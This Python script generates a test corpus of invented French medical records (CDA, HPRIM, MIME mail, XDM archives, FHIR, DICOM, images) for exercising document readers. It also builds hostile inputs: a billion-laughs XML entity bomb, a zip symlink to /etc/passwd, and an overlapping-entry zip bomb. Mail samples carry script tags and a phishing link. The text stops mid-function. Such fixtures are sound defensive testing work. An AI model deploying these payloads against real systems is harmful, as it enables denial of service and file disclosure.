# SPDX-License-Identifier: AGPL-3.0-or-later
"""Writes the documents on which readers are tried, good and hostile; everyone and everything in them is invented.

``make_corpus.py`` writes `good/` and `hostile/` beside this file, ``make_corpus.py --check`` says whether they are
what this script writes. What would be too large to keep is made when a test asks for it: `large()`.
"""

from __future__ import annotations

import base64
import hashlib
import io
import itertools
import json
import struct
import sys
import zipfile
import zlib
from pathlib import Path
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Callable

HERE: Final = Path(__file__).resolve().parent

PICTURE: Final = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgaPj/HwAEAQIAhdU8ZAAAAABJRU5ErkJggg=="
)
PDF: Final = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)

# --- CDA --------------------------------------------------------------------------------------------

CDA_HEAD: Final = """\
<?xml version="1.0" encoding="{encoding}"?>
<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <realmCode code="FR"/>
  <typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>
  <templateId root="1.2.250.1.213.1.1.1.1"/>
  <id root="6d1f6b52-0d1e-4a3c-9f52-1f2d6c1b7a90"/>
  <code code="11502-2" codeSystem="2.16.840.1.113883.6.1" displayName="CR d’examens biologiques"/>
  <title>Examens de sang de Mme Vasseur</title>
  <effectiveTime value="20261118091500+0100"/>
  <confidentialityCode code="N" codeSystem="2.16.840.1.113883.5.25" displayName="Normal"/>
  <setId root="0e0f2b1c-22f1-45cf-8a2b-7a5e4a1c9d01"/>
  <versionNumber value="2"/>
  <recordTarget><patientRole>
    <id root="1.2.250.1.213.1.4.10" extension="262029999999934"/>
    <patient>
      <name><family qualifier="BR">LEMOINE</family><given>ÉLODIE ANNE</given><given qualifier="BR">ÉLODIE</given>
        <family qualifier="CL">VASSEUR</family><given qualifier="CL">ÉLODIE</given></name>
      <administrativeGenderCode code="F" codeSystem="2.16.840.1.113883.5.1"/>
      <birthTime value="19620217"/>
    </patient>
  </patientRole></recordTarget>
  <author>
    <time value="20261118091500+0100"/>
    <assignedAuthor>
      <id root="1.2.250.1.71.4.2.1" extension="899900000037"/>
      <code code="G15_10/SM03" displayName="Médecin - Biologie médicale" codeSystem="1.2.250.1.213.1.1.4.5"/>
      <assignedPerson><name><prefix>DR</prefix><given>NADIA</given><family>FERRAT</family></name></assignedPerson>
      <representedOrganization><name>Laboratoire du Mirage</name></representedOrganization>
    </assignedAuthor>
  </author>
  <custodian><assignedCustodian><representedCustodianOrganization>
    <name>Laboratoire du Mirage</name>
  </representedCustodianOrganization></assignedCustodian></custodian>
  <informationRecipient><intendedRecipient><informationRecipient>
    <name><prefix>DR</prefix><given>KARIM</given><family>BENALI</family></name>
  </informationRecipient></intendedRecipient></informationRecipient>
  <documentationOf><serviceEvent><code code="18723-7" displayName="Hématologie"/></serviceEvent></documentationOf>
  <relatedDocument typeCode="RPLC"><parentDocument>
    <id root="1.2.250.1.999.1" extension="CR-261117"/>
  </parentDocument></relatedDocument>
"""

CDA_SECTIONS: Final = """\
  <component><structuredBody>
    <component><section>
      <title>Numération</title>
      <text>
        <paragraph>Prélèvement <content styleCode="Bold">à jeun</content>, reçu à 8 h 10.<footnote ID="n1">Tube à
          bouchon violet.</footnote> Voir aussi <footnoteRef IDREF="n1"/>.</paragraph>
        <table>
          <caption>Hémogramme</caption>
          <thead><tr><th rowspan="2">Examen</th><th colspan="2">Résultat</th></tr><tr><th>Valeur</th><th>Unité</th></tr></thead>
          <tfoot><tr><td colspan="3">Contrôle sur lame.</td></tr></tfoot>
          <tbody>
            <tr ID="r1"><td>Hémoglobine</td><td>10,4</td><td>g/dL</td></tr>
            <tr><td>Plaquettes</td><td ID="r2">720</td><td>10<sup>9</sup>/L</td></tr>
            <tr ID="r3"><td>CO<sub>2</sub> total</td><td>25</td><td>mmol/L</td></tr>
          </tbody>
        </table>
        <list listType="ordered"><caption>À faire</caption>
          <item>Contrôle sous huit jours</item>
          <item>Fer sérique<list><item>et ferritine</item></list></item>
        </list>
        <paragraph><content revised="delete">Transfusion demandée</content> Pas de transfusion.</paragraph>
        <renderMultiMedia referencedObject="image1"><caption>Frottis</caption></renderMultiMedia>
        <paragraph>Référentiel : <linkHtml href="https://exemple.invalid/normes">normes</linkHtml></paragraph>
      </text>
      <entry><observation classCode="OBS" moodCode="EVN">
        <text><reference value="#r1"/></text><value xsi:type="PQ" value="10.4" unit="g/dL"/><interpretationCode code="L"/>
      </observation></entry>
      <entry><observation classCode="OBS" moodCode="EVN">
        <text><reference value="#r2"/></text><value xsi:type="PQ" value="720"/><interpretationCode code="HH"/>
      </observation></entry>
      <entry><observationMedia classCode="OBS" moodCode="EVN" ID="image1">
        <value mediaType="image/png" representation="B64">{picture}</value>
      </observationMedia></entry>
      <component><section><title>Commentaire</title><text>Anémie modérée.<br/>À revoir.</text></section></component>
    </section></component>
  </structuredBody></component>
</ClinicalDocument>
"""

CDA_FILE: Final = """\
  <component><nonXMLBody><text mediaType="{media}" representation="B64"{more}>{content}</text></nonXMLBody></component>
</ClinicalDocument>
"""


def b64(content: bytes) -> str:
    """Return base64 in lines, as XML and mail carry it."""
    return base64.encodebytes(content).decode("ascii")


def cda_sections() -> bytes:
    """Return a CDA of level 3."""
    return (CDA_HEAD.format(encoding="UTF-8") + CDA_SECTIONS.format(picture=b64(PICTURE))).encode()


def cda_file(content: bytes, *, media: str = "application/pdf", more: str = "") -> bytes:
    """Return a CDA of level 1 around a file."""
    body = CDA_FILE.format(media=media, content=b64(content), more=more)
    return (CDA_HEAD.format(encoding="UTF-8") + body).encode()


def cda_text(text: str) -> bytes:
    """Return a CDA of level 3 with one narrative."""
    body = (
        "<component><structuredBody><component><section><title>T</title><text>"
        f"{text}</text></section></component></structuredBody></component></ClinicalDocument>"
    )
    return (CDA_HEAD.format(encoding="UTF-8") + body).encode()


# --- HPRIM ------------------------------------------------------------------------------------------

HPRIM: Final = """\
261118-0032
LEMOINE
ÉLODIE
12, rue de l’Île

06560 VALBONNE
17/02/1962
262029999999934
B261118-0032
18/11/2026
99902 LABORATOIRE DU MIRAGE
99901 BENALI KARIM

Madame Élodie LEMOINE
Prélèvement du 18/11/2026 à 8 h 10
    Hémoglobine          10,4   g/dL     (12,0 - 16,0)
****LAB****
TEX|HÉMATOLOGIE
RES|Hémoglobine|HB|N|10.4|g/dL|12.0|16.0|L|F|6.45|mmol/L|7.45|9.93||F
RES|Plaquettes|PLQ|N|720|G/L|150|400|HH|F||||
RES|Leucocytes|GB|N|11,9|G/L|4,0|10,0||F||||
RES|Lymphocytes|LY|N|2,1|G/L|1,0|4,0||F||||
RES|CRP|CRP|N|< 5|mg/L||5||F||||
RES|Aspect|ASP|A|Limpide||||N|F||||
RES|Groupe|GRP|A|À refaire||||REFAIRE|F||||
TEX|Commentaire : anémie modérée &agrave; contr&ocirc;ler
****FIN****
****FINFICHIER****
"""


HPRIM_WRITINGS: Final = """\
TEX|CHIMIE
RES|Plaquettes|PLQ|N|150 000|/mm3|180 000|400 000||F
RES|Glycémie|GLY|N|1,45*|g/L|0,70|1,10||F
RES|CRP|CRP|N|12|mg/L||inf. à 5||F
RES|Urée|URE|N|0,42|g/L|0,15|0,45||F
RES|TSH|TSH|N|2,4|mUI/L|4,0|0,4||C
RES|Ferritine|FER|N|env. 12|µg/L|20|200||P
RES|DFG|DFG|N|> 60|mL/min|> 90|||F
RES|Potassium|K|N|||3,5|5,0||I
"""
"""Rows as laboratories write them besides the format."""


def hprim_writings() -> bytes:
    """Return a laboratory's file with numbers, norms and marks in many writings."""
    start = HPRIM.index("TEX|")
    return (
        HPRIM[:start].replace("’", "'") + HPRIM_WRITINGS + HPRIM[HPRIM.index("****FIN") :]
    ).encode("cp1252")


def hprim(encoding: str, end: str = "\r\n") -> bytes:
    """Return a laboratory's file in some encoding; what it lacks is written as old software did."""
    text = HPRIM.replace("’", "'").replace("\n", end)
    return text.encode(encoding)


# --- mail -------------------------------------------------------------------------------------------

MAIL: Final = """\
Return-Path: <nadia.ferrat@exemple.invalid>
Received: from [192.0.2.7] by exemple.invalid; Wed, 18 Nov 2026 09:30:00 +0100
From: =?iso-8859-1?Q?Dr_Nadia_F=E9rrat?= <nadia.ferrat@exemple.invalid>
To: "Benali, Karim" <karim.benali@exemple.invalid>
Cc: secretariat@exemple.invalid
Subject: =?utf-8?B?{subject}?=
 =?utf-8?B?{more_subject}?=
Date: Wed, 18 Nov 2026 09:30:00 +0100
Message-ID: <resultats.261118@exemple.invalid>
In-Reply-To: <demande.261117@exemple.invalid>
References: <premier.261101@exemple.invalid>
 <demande.261117@exemple.invalid>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="dehors"

Ceci est un message en plusieurs parties.
--dehors
Content-Type: multipart/alternative; boundary=dedans

--dedans
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: quoted-printable

Cher confr=E8re,

voici les r=E9sultats.
--dedans
Content-Type: text/html; charset=utf-8

<p>Cher confrère,</p><img src="https://pisteur.invalid/p.gif"><script>alert(1)</script>
--dedans--
--dehors
Content-Type: application/pdf; name="resultat.pdf"
Content-Disposition: attachment; filename*=utf-8''r%C3%A9sultat.pdf
Content-Transfer-Encoding: base64

{pdf}
--dehors
Content-Type: image/png
Content-Disposition: attachment; filename="résultat.pdf"
Content-Transfer-Encoding: base64

{picture}
--dehors
Content-Type: application/zip; name=IHE_XDM.zip
Content-Transfer-Encoding: base64

{xdm}
--dehors
Content-Type: message/rfc822

Subject: Demande
From: karim.benali@exemple.invalid

Pouvez-vous la voir ?
--dehors
Content-Type: application/ms-tnef; name=winmail.dat
Content-Transfer-Encoding: base64

eJ8+IgAAAAAA
--dehors--
"""

MAIL_HTML: Final = """\
From: karim.benali@exemple.invalid
To: nadia.ferrat@exemple.invalid
Subject: Lettre en HTML seul
Date: Thu, 19 Nov 2026 10:00:00 +0100
Content-Type: text/html; charset=windows-1252

<html><head><title>x</title><style>p{color:red}</style></head><body background="http://pisteur.invalid/f.png">
<h2>Bonjour</h2><p>Elle va <b>mieux</b>&nbsp;: 10<sup>9</sup>/L &eacute;t&eacute;.<br>À vendredi.</p>
<ul><li>marche<li>repos</ul><ol><li>un</li><li>deux</li></ol>
<a href="http://hameconnage.invalid/x">https://banque.invalid</a>
<table><tr><td><table><tr><td>gauche</td></tr></table></td><td>droite</td></tr></table>
<table><tr><th>Mesure</th><th>Valeur</th></tr><tr><td>Poids</td><td>64,5</td></tr></table>
<script>document.write("caché")</script><p onclick="x()">Fin.</p></body></html>
"""

MAIL_SIGNED: Final = """\
From: nadia.ferrat@exemple.invalid
To: karim.benali@exemple.invalid
Subject: Signature
Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary="s"

--s
Content-Type: text/plain

Lettre signée.
--s
Content-Type: application/pkcs7-signature; name=smime.p7s
Content-Transfer-Encoding: base64

MIIB
--s--
"""

MAIL_SEALED: Final = """\
From: nadia.ferrat@exemple.invalid
Subject: Chiffré
Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m
Content-Transfer-Encoding: base64

MIIBaGFsbG8=
"""

MAILBOX: Final = """\
From nadia.ferrat@exemple.invalid Wed Nov 18 09:30:00 2026
From: nadia.ferrat@exemple.invalid
Subject: Un
Message-ID: <un@exemple.invalid>

From the beginning, sans ligne vide avant.

From now on, ceci est encore de la prose.
>From marqué une fois
>>From marqué deux fois

From MAILER-DAEMON Thu Nov 19 10:00:00 2026

???? rien qui soit une lettre \x01

From karim.benali@exemple.invalid Fri Nov 20 08:00:00 2026
From: karim.benali@exemple.invalid
Subject: Trois

Fin.
"""


def mail() -> bytes:
    """Return a letter with all that letters have."""
    # The words break in the middle of a character, as software that counts bytes writes them.
    subject = "Résultats d’Élodie".encode()
    text = MAIL.format(
        subject=base64.b64encode(subject[:17]).decode(),
        more_subject=base64.b64encode(subject[17:]).decode(),
        pdf=b64(PDF),
        picture=b64(PICTURE),
        xdm=b64(xdm()),
    )
    return text.encode().replace(b"\n", b"\r\n")


# --- archives ---------------------------------------------------------------------------------------

METADATA: Final = """\
<?xml version="1.0" encoding="UTF-8"?>
<lcm:SubmitObjectsRequest xmlns:lcm="urn:oasis:names:tc:ebxml-regrep:xsd:lcm:3.0" xmlns="urn:oasis:names:tc:ebxml-regrep:xsd:rim:3.0">
<RegistryObjectList>{documents}
<RegistryPackage id="Lot01">
  <Slot name="submissionTime"><ValueList><Value>20261118083000</Value></ValueList></Slot>
  <Slot name="intendedRecipient"><ValueList><Value>|899900000011^BENALI^KARIM^^^DR</Value></ValueList></Slot>
  <Name><LocalizedString value="Résultats de Mme Lemoine"/></Name>
  <Classification classificationScheme="urn:uuid:a7058bb9-b4e4-4307-ba5b-e3f0ab85e12d">
    <Slot name="authorPerson"><ValueList><Value>899900000037^FERRAT^NADIA^^^DR</Value></ValueList></Slot>
  </Classification>
</RegistryPackage>{more}
</RegistryObjectList></lcm:SubmitObjectsRequest>
"""

METADATA_DOCUMENT: Final = """
<ExtrinsicObject id="{id}" mimeType="{media}" objectType="urn:uuid:7edca82f-054d-47f2-a032-9b2a5b5186c1">
  <Slot name="URI"><ValueList>{address}</ValueList></Slot>
  <Slot name="hash"><ValueList><Value>{hash}</Value></ValueList></Slot>
  <Slot name="size"><ValueList><Value>{size}</Value></ValueList></Slot>
  <Slot name="creationTime"><ValueList><Value>20261118081500</Value></ValueList></Slot>
  <Slot name="serviceStartTime"><ValueList><Value>20261118071000</Value></ValueList></Slot>
  <Slot name="sourcePatientInfo"><ValueList><Value>PID-5|VASSEUR^ÉLODIE^^^^^D~LEMOINE^{given}^^^^^L</Value><Value>PID-7|19620217</Value></ValueList></Slot>
  <Name><LocalizedString value="{title}"/></Name>
  <Classification classificationScheme="urn:uuid:93606bcf-9494-43ec-9b4e-a7748d1a838d">
    <Slot name="authorPerson"><ValueList><Value>899900000037^FERRAT^NADIA^^^DR</Value></ValueList></Slot>
    <Slot name="authorInstitution"><ValueList><Value>Laboratoire du Mirage^^^^^&amp;1.2.250.1.71.4.2.2&amp;ISO</Value></ValueList></Slot>
  </Classification>
  <Classification classificationScheme="urn:uuid:f0306f51-975f-434e-a61c-c59651d33983" nodeRepresentation="{code}">
    <Name><LocalizedString value="CR d’examens biologiques"/></Name>
  </Classification>
</ExtrinsicObject>"""

README: Final = b"Archive IHE_XDM d'essai.\r\n"


def entry(
    name: str,
    content: bytes,
    *,
    title: str = "Examens de sang",
    code: str = "11502-2",
    given: str = "ÉLODIE",
    digest: str | None = None,
    size: int | None = None,
    pieces: bool = False,
) -> str:
    """Return what a list says about a document."""
    values = [f"1|{name[:4]}", f"2|{name[4:]}"] if pieces else [name]
    return METADATA_DOCUMENT.format(
        id=f"D-{name}",
        media="application/octet-stream",
        address="".join(f"<Value>{value}</Value>" for value in values),
        hash=hashlib.sha1(content, usedforsecurity=False).hexdigest() if digest is None else digest,
        size=len(content) if size is None else size,
        title=title,
        code=code,
        given=given,
    )


def zipped(files: list[tuple[str, bytes]], *, method: int = zipfile.ZIP_STORED) -> bytes:
    """Return an archive of files, all of the same second and not compressed: the same bytes everywhere."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as made:
        for name, content in files:
            made.writestr(zipfile.ZipInfo(name), content, method)
    return written.getvalue()


def archive(
    documents: list[tuple[str, bytes]],
    listed: list[str],
    *,
    more: str = "",
    method: int = zipfile.ZIP_STORED,
) -> bytes:
    """Return an archive with one list."""
    return zipped(
        [
            ("README.TXT", README),
            ("INDEX.HTM", b"<html></html>"),
            (
                "IHE_XDM/SUBSET01/METADATA.XML",
                METADATA.format(documents="".join(listed), more=more).encode(),
            ),
            *((f"IHE_XDM/SUBSET01/{name}", content) for name, content in documents),
        ],
        method=method,
    )


def xdm() -> bytes:
    """Return an archive with a CDA, the PDF of the same act, and a picture."""
    files = [("DOC0001.XML", cda_sections()), ("DOC0001.PDF", PDF), ("frottis.png", PICTURE)]
    listed = [
        entry(*files[0]),
        entry(*files[1], pieces=True),
        entry(*files[2], title="Frottis", code="55113-5"),
    ]
    return archive(files, listed)


def xdm_around_pdf() -> bytes:
    """Return an archive in which the CDA only carries the PDF that is beside it."""
    files = [("DOC0001.XML", cda_file(PDF)), ("DOC0002.PDF", PDF)]
    return archive(files, [entry(*files[0], title="Un"), entry(*files[1], title="Autre", code="x")])


def two_sets() -> bytes:
    """Return an archive with two lists, in the names of another program."""
    text = b"Compte rendu d'essai."
    lists = [
        METADATA.format(documents=entry("a.txt", text, title=title), more="").encode()
        for title in ("Premier", "Second")
    ]
    return zipped(
        [
            ("readme.txt", README),
            ("ihe_xdm/lot1/metadata.xml", lists[0]),
            ("ihe_xdm/lot1/A.TXT", text),
            ("ihe_xdm/lot2/Metadata.Xml", lists[1]),
            ("ihe_xdm/lot2/a.txt", text),
        ]
    )


# --- FHIR -------------------------------------------------------------------------------------------


def fhir_bundle() -> dict[str, object]:
    """Return a document with results and a file."""
    observation = {
        "resourceType": "Observation",
        "id": "hb",
        "status": "final",
        "code": {"coding": [{"code": "718-7", "display": "Hémoglobine"}]},
        "valueQuantity": {"value": 10.40, "unit": "g/dL"},
        "interpretation": [{"coding": [{"code": "L"}]}],
        "referenceRange": [{"low": {"value": 12.0}, "high": {"value": 16.0}}],
    }
    return {
        "resourceType": "Bundle",
        "type": "document",
        "entry": [
            {
                "fullUrl": "urn:uuid:c",
                "resource": {
                    "resourceType": "Composition",
                    "title": "Résultats de biologie",
                    "type": {
                        "coding": [{"code": "11502-2", "display": "CR d’examens biologiques"}]
                    },
                    "date": "2026-11-18T09:15:00+01:00",
                    "confidentiality": "N",
                    "subject": {"reference": "Patient/p"},
                    "author": [{"reference": "urn:uuid:d"}],
                    "section": [
                        {
                            "title": "Conclusion",
                            "text": {
                                "status": "generated",
                                "div": '<div xmlns="http://www.w3.org/1999/xhtml"><p>Anémie <b>modérée</b>.</p></div>',
                            },
                            "entry": [{"reference": "Observation/hb"}],
                        }
                    ],
                },
            },
            {
                "resource": {
                    "resourceType": "Patient",
                    "id": "p",
                    "name": [{"family": "LEMOINE", "given": ["Élodie"]}],
                    "gender": "female",
                    "birthDate": "1962-02-17",
                }
            },
            {
                "fullUrl": "urn:uuid:d",
                "resource": {
                    "resourceType": "Practitioner",
                    "name": [{"prefix": ["Dr"], "given": ["Nadia"], "family": "Ferrat"}],
                },
            },
            {"resource": observation},
            {
                "resource": {
                    "resourceType": "DiagnosticReport",
                    "code": {"text": "Biologie"},
                    "conclusion": "À contrôler sous huit jours.",
                    "result": [{"reference": "Observation/hb"}],
                    "presentedForm": [
                        {
                            "contentType": "application/pdf",
                            "title": "Compte rendu",
                            "data": base64.b64encode(PDF).decode(),
                        }
                    ],
                }
            },
        ],
    }


def fhir_json() -> bytes:
    """Return the document as JSON, with the precision that its author wrote."""
    text = json.dumps(fhir_bundle(), ensure_ascii=False, indent=1)
    return text.replace('"value": 10.4,', '"value": 10.40,').encode()


def fhir_xml() -> bytes:
    """Return the document as XML."""
    bundle = fhir_bundle()
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        + _resource(bundle, "http://hl7.org/fhir").encode()
    )


def _resource(resource: dict[str, object], namespace: str = "") -> str:
    name = resource["resourceType"]
    space = f' xmlns="{namespace}"' if namespace else ""
    inner = "".join(
        _element(key, value) for key, value in resource.items() if key != "resourceType"
    )
    return f"<{name}{space}>{inner}</{name}>"


def _element(name: str, value: object) -> str:
    if isinstance(value, list):
        return "".join(_element(name, item) for item in value)
    if name == "div":
        return str(value)
    if isinstance(value, dict):
        if "resourceType" in value:
            return f"<{name}>{_resource(value)}</{name}>"
        inner = "".join(_element(key, item) for key, item in value.items())
        return f"<{name}>{inner}</{name}>"
    return f'<{name} value="{value}"/>'


# --- pages: PDF, pictures, DICOM --------------------------------------------------------------------

JPEG: Final = base64.b64decode(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDABQODxIPDRQSEBIXFRQYHjIhHhwcHj0sLiQySUBMS0dARkVQWnNiUFVtVkVGZIhlbXd7gYKBTmCN"
    "l4x9lnN+gXz/2wBDARUXFx4aHjshITt8U0ZTfHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHz/wAAR"
    "CAAQABADASIAAhEBAxEB/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QAtRAAAgEDAwIEAwUFBAQAAAF9AQIDAAQRBRIhMUEG"
    "E1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWG"
    "h4iJipKTlJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3+Pn6/8QAHwEAAwEBAQEB"
    "AQEBAQAAAAAAAAECAwQFBgcICQoL/8QAtREAAgECBAQDBAcFBAQAAQJ3AAECAxEEBSExBhJBUQdhcRMiMoEIFEKRobHBCSMzUvAVYnLRChYk"
    "NOEl8RcYGRomJygpKjU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVmZ2hpanN0dXZ3eHl6goOEhYaHiImKkpOUlZaXmJmaoqOkpaanqKmqsrO0"
    "tba3uLm6wsPExcbHyMnK0tPU1dbX2Nna4uPk5ebn6Onq8vP09fb3+Pn6/9oADAMBAAIRAxEAPwDqf+PL/r1/9Ff/AGP/AKD9Pu2qKq/8eX/X"
    "r/6K/wDsf/Qfp91bFfF6n//Z"
)
GIF: Final = base64.b64decode(
    "R0lGODdhEAAQAIEAAP///8gAAAAAAAAAACwAAAAAEAAQAEAIMAADABhIsKDBgwMFIiSocKHDgg0TPnQYcSJEiwgVVrS4cWLHhx8pYrw4UmJJAAEC"
    "AgA7"
)
WEBP: Final = base64.b64decode(
    "UklGRjYAAABXRUJQVlA4TCoAAAAvD8ADAA+w/0/+3//5jwcoaiQpql3OJxKQgrR1j4WI/tchpG47rqf4IQU="
)


def packed_pdf(root: bytes, *objects: bytes) -> bytes:
    """Return a PDF with one page whose objects, as nearly all software writes them, are in a packed stream."""
    packed = [
        b"<</Type/Catalog/Pages 2 0 R%b>>" % root,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>",
        *objects,
    ]
    head = body = b""
    for number, each in enumerate(packed, 1):
        head += b"%d %d " % (number, len(body))
        body += each + b"\n"
    stream = zlib.compress(head + body)
    holder, table = len(packed) + 1, len(packed) + 2
    content = b"%PDF-1.5\n"
    places = b"\0" * 4 + b"\xff"
    places += b"".join(b"\2" + struct.pack(">HH", holder, at) for at in range(len(packed)))
    places += b"\1" + struct.pack(">HH", len(content), 0)
    content += (
        b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n%b\nendstream\nendobj\n"
        % (holder, len(packed), len(head), len(stream), stream)
    )
    places += b"\1" + struct.pack(">HH", len(content), 0)
    return content + (
        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 2 2]/Root 1 0 R/Length %d>>stream\n%b\nendstream\nendobj\n"
        b"startxref\n%d\n%%%%EOF\n" % (table, table + 1, len(places), places, len(content))
    )


def png(width: int, height: int, rows: bytes) -> bytes:
    """Return a grey PNG of that size with these rows, whether they are enough or not."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def drawing() -> bytes:
    """Return a PNG that goes from black to white."""
    return png(8, 8, b"".join(b"\0" + bytes(range(row * 32, row * 32 + 8)) for row in range(8)))


def bmp(width: int, height: int, pixels: bytes) -> bytes:
    """Return a BMP that says to be that large."""
    head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54 + len(pixels), 0, 0, 54) + head + pixels


def fax(pages: int, *, is_looped: bool = False) -> bytes:
    """Return a TIFF of white pages; the last one may be followed by the first again."""
    content = bytearray(b"II*\0" + struct.pack("<I", 8))
    for page in range(pages):
        start = len(content)
        tags = (
            *((256, 8), (257, 8), (258, 1), (259, 1), (262, 1)),
            *((273, start + 2 + 8 * 12 + 4), (278, 8), (279, 8)),
        )
        content += struct.pack("<H", len(tags))
        for tag, value in tags:
            content += struct.pack("<HHII", tag, 4, 1, value)
        is_last = page == pages - 1
        following = (8 if is_looped else 0) if is_last else start + 2 + 8 * 12 + 4 + 8
        content += struct.pack("<I", following) + b"\xff" * 8
    return bytes(content)


def element(group: int, number: int, kind: bytes, value: bytes, length: int | None = None) -> bytes:
    """Return a DICOM element, perhaps with another length than it has."""
    value += (b" " if kind not in {b"OW", b"UI"} else b"\0") * (len(value) % 2)
    told = len(value) if length is None else length
    if kind in {b"OW", b"SQ"}:
        return struct.pack("<HH2sHI", group, number, kind, 0, told) + value
    return struct.pack("<HH2sH", group, number, kind, told) + value


def dicom(pixels: bytes, *, frames: int = 1, more: bytes = b"", syntax: bytes = b"1") -> bytes:
    """Return a DICOM file of frames of eight by eight greys, as its head says; deflated as syntax 1.99."""
    meta = element(2, 0x10, b"UI", b"1.2.840.10008.1.2." + syntax)
    body = (
        element(0x08, 0x60, b"CS", b"CR")
        + element(0x10, 0x10, b"PN", b"LEMOINE^ELODIE")
        + element(0x10, 0x30, b"DA", b"19620217")
        + element(0x28, 0x02, b"US", struct.pack("<H", 1))
        + element(0x28, 0x04, b"CS", b"MONOCHROME2")
        + element(0x28, 0x08, b"IS", b"%d" % frames)
        + b"".join(
            element(0x28, number, b"US", struct.pack("<H", value))
            for number, value in ((0x10, 8), (0x11, 8), (0x100, 8), (0x101, 8), (0x102, 7))
        )
        + element(0x28, 0x103, b"US", b"\0\0")
        + more
        + pixels
    )
    if syntax == b"1.99":
        packer = zlib.compressobj(9, wbits=-15)
        body = packer.compress(body) + packer.flush()
    return bytes(128) + b"DICM" + element(2, 0, b"UL", struct.pack("<I", len(meta))) + meta + body


def frame(count: int = 1) -> bytes:
    """Return frames that go from black to white."""
    return element(0x7FE0, 0x10, b"OW", bytes(range(0, 256, 4)) * count)


def nested(depth: int) -> bytes:
    """Return sequences in sequences of a DICOM file, none of which ends."""
    return (
        struct.pack("<HH2sHI", 0x40, 0xA730, b"SQ", 0, 0xFFFFFFFF)
        + struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF)
    ) * depth


# --- office files and other archives ----------------------------------------------------------------

OLE: Final = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    + bytes(16)
    + struct.pack("<HHHHH6xIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 0)
    + struct.pack("<IIIIII", 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    + struct.pack("<I", 1)
    + b"\xff" * 432
    + bytes(512)
    + struct.pack("<II", 0xFFFFFFFE, 0xFFFFFFFD)
    + b"\xff" * 504
)
"""The file system that old office files are, with nothing in it: head, directory, list of sectors."""


def office(*more: tuple[str, bytes]) -> bytes:
    """Return a word processor's document, with a list of its own called as that of an XDM is."""
    return zipped(
        [
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<w:document/>"),
            ("customXml/metadata.xml", b"<m/>"),
            *more,
        ]
    )


# --- hostile ----------------------------------------------------------------------------------------


def doctype(declarations: str, body: str) -> bytes:
    """Return a CDA with a document type of its own."""
    whole = cda_text(body).decode()
    head, _end, rest = whole.partition("?>\n")
    return f"{head}?>\n<!DOCTYPE ClinicalDocument [{declarations}]>\n{rest}".encode()


def laughs() -> bytes:
    """Return the billion laughs."""
    names = "abcdefghij"
    lines = ['<!ENTITY a "ha ha ha ha ha ha">']
    lines += [
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in itertools.pairwise(names)
    ]
    return doctype("\n".join(lines), "&j;")


def encrypted_archive() -> bytes:
    """Return an archive that says its files want a password."""
    content = bytearray(xdm())
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(signature)
        while place >= 0:
            content[place + at] |= 1
            place = content.find(signature, place + 4)
    return bytes(content)


def link_archive() -> bytes:
    """Return an archive in which a document is a link to a file outside."""
    written = io.BytesIO()
    link = zipfile.ZipInfo("IHE_XDM/SUBSET01/DOC.PDF")
    link.create_system = 3
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(written, "w") as made:
        made.writestr(
            zipfile.ZipInfo("IHE_XDM/SUBSET01/METADATA.XML"),
            METADATA.format(documents=entry("DOC.PDF", b"/etc/passwd"), more="").encode(),
        )
        made.writestr(link, b"/etc/passwd")
    return written.getvalue()


def overlapping_archive() -> bytes:
    """Return an archive whose list names the same bytes again and again."""
    made = archive([("a.bin", b"0" * 50_000)], [entry("a.bin", b"0" * 50_000)])
    listing = made.rindex(b"PK\x01\x02")
    end = made.rindex(b"PK\x05\x06")
    record = made[listing:end]
    records = made[made.index(b"PK\x01\x02") : end]
    for number in range(50):
